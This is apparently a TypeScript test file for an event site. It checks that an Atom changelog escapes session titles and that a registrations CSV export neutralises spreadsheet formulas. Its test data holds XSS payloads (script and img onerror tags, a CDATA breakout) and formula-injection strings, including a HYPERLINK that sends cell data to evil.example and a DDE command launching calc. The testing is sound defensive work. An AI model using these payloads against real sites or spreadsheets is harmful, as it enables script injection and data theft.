import { beforeAll, describe, expect, it } from 'vitest'
import { create } from 'xmlbuilder2'
import * as changesAtom from '~/routes/events.$slug.changes[.atom]'
import * as register from '~/routes/events.$slug.register'
import * as adminCsv from '~/routes/admin.events.$id.registrations[.csv]'
import type { Event } from '#db/schema'
import { createQuestion } from '~/models/registration/questions.server'
import { publishSchedule } from '~/models/agenda/schedule.server'
import { sessionInputSchema } from '~/models/agenda/session-schema'
import { createSession, updateSession } from '~/models/agenda/session.server'
import type { PublicUser } from '~/models/users/user.server'
import { db } from '~/utils/db.server'
import { makeEvent, makeUser } from '../support/factories'
import { callRoute, formRequest, getRequest, sessionCookieFor } from '../support/routes'

let organizer: PublicUser
let organizerCookie: string

beforeAll(async () => {
  organizer = await makeUser()
  organizerCookie = await sessionCookieFor(organizer.id)
})

/** The few entities our own HTML uses; anything else would be left as it is and fail the comparisons. */
function decodeHtmlText(html: string): string {
  const entities: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', '#39': "'" }
  return html.replace(/&(amp|lt|gt|quot|#39);/g, (_, name: string) => entities[name] ?? '')
}

describe('the Atom changelog', () => {
  const hostile = {
    image: '<img src=x onerror=alert(1)>',
    breakout: '</summary><script>alert(1)</script>',
    cdata: 'a]]><script>alert(2)</script>]]>b',
  }
  let event: Event

  beforeAll(async () => {
    event = await makeEvent(organizer.id)
    const schema = sessionInputSchema(event.time_zone)
    const times = { kind: 'talk', startsAt: '2030-05-04T10:00', endsAt: '2030-05-04T11:00' }
    const first = await createSession(event.id, schema.parse({ title: hostile.image, ...times }))
    await createSession(event.id, schema.parse({ title: hostile.cdata, ...times, room: '<b>Room</b>' }))
    await publishSchedule(event.id, 'Org')
    await updateSession(event.id, first.id, schema.parse({ title: hostile.breakout, ...times }))
    await publishSchedule(event.id, 'Org')
  })

  it('carries session titles as text in summary and content, with no markup of their own', async () => {
    const result = await callRoute(changesAtom.loader, getRequest(`/events/${event.slug}/changes.atom`), {
      slug: event.slug,
    })
    expect(result.status).toBe(200)
    // Well-formed XML: a title cannot end the CDATA section or the element it is in.
    const doc = create(String(result.data)).node as unknown as Document
    const entries = Array.from(doc.getElementsByTagName('entry'))
    expect(entries).toHaveLength(2)
    const texts: string[] = []
    for (const entry of entries) {
      const [summary, ...moreSummaries] = Array.from(entry.getElementsByTagName('summary'))
      const [content, ...moreContents] = Array.from(entry.getElementsByTagName('content'))
      expect([moreSummaries, moreContents]).toEqual([[], []])
      expect(summary!.getAttribute('type')).toBe('html')
      expect(content!.getAttribute('type')).toBe('html')
      // The summary is meant to be plain text: in HTML, no "<" means no element at all.
      const summaryHtml = summary!.textContent ?? ''
      expect(summaryHtml).not.toContain('<')
      // The content's only markup is the list we build around the lines.
      const contentHtml = content!.textContent ?? ''
      expect(contentHtml).toMatch(/^<ul>(<li>[^<]*<\/li>)+<\/ul>$/)
      const items = [...contentHtml.matchAll(/<li>([^<]*)<\/li>/g)].map((m) => decodeHtmlText(m[1]!))
      expect(decodeHtmlText(summaryHtml)).toBe(items.join(' '))
      texts.push(...items)
    }
    // And the titles arrive whole, for the reader to show as text.
    const all = texts.join('\n')
    expect(all).toContain(`Renamed “${hostile.image}” to “${hostile.breakout}”.`)
    expect(all).toContain(`Added “${hostile.image}”`)
    expect(all).toContain(`Added “${hostile.cdata}” (`)
    expect(all).toContain('<b>Room</b>')
  })
})

/** RFC 4180, as csv-stringify writes it: quoted cells may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  const endCell = () => {
    row.push(cell)
    cell = ''
  }
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!
    if (quoted && ch === '"' && text[i + 1] === '"') {
      cell += '"'
      i++
    } else if (ch === '"') {
      quoted = !quoted
    } else if (!quoted && ch === ',') {
      endCell()
    } else if (!quoted && ch === '\n') {
      endCell()
      rows.push(row)
      row = []
    } else {
      cell += ch
    }
  }
  if (cell || row.length) {
    endCell()
    rows.push(row)
  }
  return rows
}

describe('the registrations CSV', () => {
  it('writes typed cells that a spreadsheet would run as formulas as text', async () => {
    const event = await makeEvent(organizer.id, { locationKind: 'in_person', venueName: 'Hall' })
    const question = await createQuestion(event.id, {
      label: '=1+1 (what is it?)',
      kind: 'text',
      options: [],
      required: false,
    })
    const typed = {
      name: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      affiliations: '+cmd|" /C calc"!A0',
      accessibilityNeeds: '-2+3',
      dietaryNeeds: '@SUM(1+1)',
      [`answers.q${question.id}`]: '=IMPORTXML("https://evil.example", "//a")',
    }
    const registered = await callRoute(
      register.action,
      await formRequest(
        `/events/${event.slug}/register`,
        { ...typed, email: 'mallory@example.org', website: '' },
        { headers: { 'x-convene-remote-address': '192.0.2.90' } },
      ),
      { slug: event.slug },
    )
    expect(registered.status).toBe(302)
    // The forms trim what is typed, so a leading tab or carriage return can only come from elsewhere (an older
    // row, a future import): it is covered all the same.
    const carriage = (
      await callRoute(
        register.action,
        await formRequest(
          `/events/${event.slug}/register`,
          { name: 'Carla', email: 'carla@example.org', website: '' },
          { headers: { 'x-convene-remote-address': '192.0.2.91' } },
        ),
        { slug: event.slug },
      )
    ).status
    expect(carriage).toBe(302)
    await db
      .updateTable('registrations')
      .set({ name: '\t=1+1', dietary_needs: '\r=2+2' })
      .where('email_normalized', '=', 'carla@example.org')
      .execute()

    const result = await callRoute(
      adminCsv.loader,
      getRequest(`/admin/events/${event.id}/registrations.csv`, organizerCookie),
      { id: String(event.id) },
    )
    expect(result.status).toBe(200)
    const [header, ...rows] = parseCsv(String(result.data).replace(/^\uFEFF/, ''))
    expect(rows).toHaveLength(2)
    for (const cell of [header!, ...rows].flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    const column = (name: string) => header!.indexOf(name)
    expect(header!.at(-1)).toBe("'=1+1 (what is it?)")
    const mallory = rows.find((r) => r[column('Email')] === 'mallory@example.org')!
    expect(mallory[column('Name')]).toBe(`'${typed.name}`)
    expect(mallory[column('Projects')]).toBe(`'${typed.affiliations}`)
    expect(mallory[column('Accessibility needs')]).toBe(`'${typed.accessibilityNeeds}`)
    expect(mallory[column('Dietary needs')]).toBe(`'${typed.dietaryNeeds}`)
    expect(mallory.at(-1)).toBe(`'${typed[`answers.q${question.id}`]}`)
    const carla = rows.find((r) => r[column('Email')] === 'carla@example.org')!
    expect(carla[column('Name')]).toBe("'\t=1+1")
    expect(carla[column('Dietary needs')]).toBe("'\r=2+2")
    // What we generate is left alone.
    expect(carla[column('Status')]).toBe('confirmed')
    expect(carla[column('Registered at (UTC)')]).toMatch(/^\d{4}-\d\d-\d\dT/)
  })
})
